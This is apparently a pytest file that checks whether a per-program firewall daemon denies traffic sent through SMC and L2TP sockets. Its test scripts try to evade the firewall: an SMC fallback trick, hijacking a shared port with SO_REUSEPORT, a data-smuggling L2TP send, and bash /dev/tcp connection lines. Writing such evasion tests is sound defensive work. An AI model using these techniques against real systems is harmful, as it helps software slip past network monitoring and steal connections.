"""SMC and L2TP carry a program's data by sockets that the kernel makes: such traffic is not taken for the kernel's own.

Kernels of development machines often have neither; `make test-kernel` runs one that has.
"""

import subprocess

import pytest

from tests.evasion.stage import ATTACKER, PYTHON
from tests.lab.lab import Lab
from tests.lab.patience import PATIENCE, read_until
from tests.lab.world import HOST4, WORLD4

pytestmark = [pytest.mark.privileged, pytest.mark.core_lab]

KERNELS = "allow - - - kernel\nallow - - -src kernel\n"
# A socket of SMC (43). Setting TCP_FASTOPEN_CONNECT (30), which SMC cannot do, makes it fall back to TCP at once.
SMC = """
import ctypes, socket, sys
way, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
number = ctypes.CDLL(None).socket(43, socket.SOCK_STREAM, 0)
if number < 0:
    print("none")
    sys.exit()
used = socket.socket(socket.AF_INET, socket.SOCK_STREAM, fileno=number)
if way.startswith("early"):
    used.setsockopt(socket.IPPROTO_TCP, 30, 1)
    used.setsockopt(socket.IPPROTO_TCP, 30, 0)
if way.endswith("asks"):
    print(used.connect_ex((address, port)))
else:
    used.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    used.bind((address, port))
    used.listen()
    print("listening", flush=True)
    used.accept()
    print("heard", flush=True)
"""
# Has the port first, and shares it.
HONEST = """
import socket, sys
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
server.bind((sys.argv[1], int(sys.argv[2])))
server.listen()
print("listening", flush=True)
while True:
    server.accept()
"""
VISITORS = 12  # the kernel chooses by the visitor's port which listener takes a connection, so both get some
# Makes a tunnel and a session of L2TP (sockaddr_pppol2tp): what is written to the session's socket leaves as UDP.
L2TP = """
import ctypes, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
carrier = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
carrier.connect((sys.argv[1], int(sys.argv[2])))
for session in (0, 5):
    number = libc.socket(24, socket.SOCK_DGRAM, 1)
    address = struct.pack("=HIii16sHHHH", 24, 1, 0, carrier.fileno(), b"", 1, session, 1, session)
    if number < 0 or libc.connect(number, address, len(address)):
        print("none", ctypes.get_errno())
        sys.exit()
print(libc.send(number, b"secret", 6, 0), flush=True)
"""


def output_of(done: "subprocess.CompletedProcess[str]") -> str:
    """What the program printed; the test is skipped if this kernel lacks the kind of socket."""
    assert done.returncode == 0, done.stderr
    if done.stdout.startswith("none"):
        pytest.skip(f"this kernel has no such socket: {done.stdout}")
    return done.stdout.strip()


@pytest.mark.parametrize("way", ["early asks", "asks"])
def test_a_program_that_connects_by_smc(lab: Lab, way: str) -> None:
    daemon = lab.start_daemon(KERNELS, timeout_s=0)
    assert output_of(lab.run([PYTHON, "-c", SMC, way, WORLD4, "80"], user=ATTACKER, timeout_s=30 * PATIENCE)) != "0"
    record = daemon.wait_connection(remote_port=80)
    assert (record["verdict"], record["attribution"]) == ("deny", "bpf" if way == "early asks" else "unknown")


@pytest.mark.parametrize("way", ["early hears", "hears"])
def test_a_program_that_listens_by_smc(lab: Lab, way: str) -> None:
    daemon = lab.start_daemon(KERNELS, timeout_s=0)
    evil = lab.spawn([PYTHON, "-c", SMC, way, HOST4, "8000"], user=ATTACKER)
    if read_until(evil, len) == ["none\n"]:
        pytest.skip("this kernel has no SMC")
    assert lab.run_world(["bash", "-c", f"exec 3<>/dev/tcp/{HOST4}/8000"]).returncode != 0
    record = daemon.wait_connection(local_port=8000)
    assert (record["verdict"], record["attribution"]) == ("deny", "unknown")


def test_a_program_that_joins_the_honest_programs_port_by_smc(lab: Lab) -> None:
    honest = lab.folder / "honest.py"
    honest.write_text(HONEST)
    daemon = lab.start_daemon(f"allow - - -src {honest}\n", timeout_s=0)
    read_until(lab.spawn([PYTHON, str(honest), HOST4, "8000"], user=ATTACKER), len)
    evil = lab.spawn([PYTHON, "-c", SMC, "early hears", HOST4, "8000"], user=ATTACKER)
    if read_until(evil, len) == ["none\n"]:
        pytest.skip("this kernel has no SMC")
    for _visitor in range(VISITORS):
        lab.run_world(["bash", "-c", f"exec 3<>/dev/tcp/{HOST4}/8000"])
    verdicts = {(record["verdict"], record["program"]) for record in daemon.wait_connections(VISITORS)}
    assert verdicts == {("allow", str(honest)), ("deny", "unknown")}
    assert evil.poll() is None, "it has accepted one"


def test_what_is_written_to_a_session_of_l2tp(lab: Lab) -> None:
    daemon = lab.start_daemon(KERNELS, timeout_s=0)
    assert output_of(lab.run([PYTHON, "-c", L2TP, WORLD4, "7777"], user=ATTACKER)) == "6"
    record = daemon.wait_connection(remote_port=7777)
    assert (record["verdict"], record["attribution"]) == ("deny", "unknown")
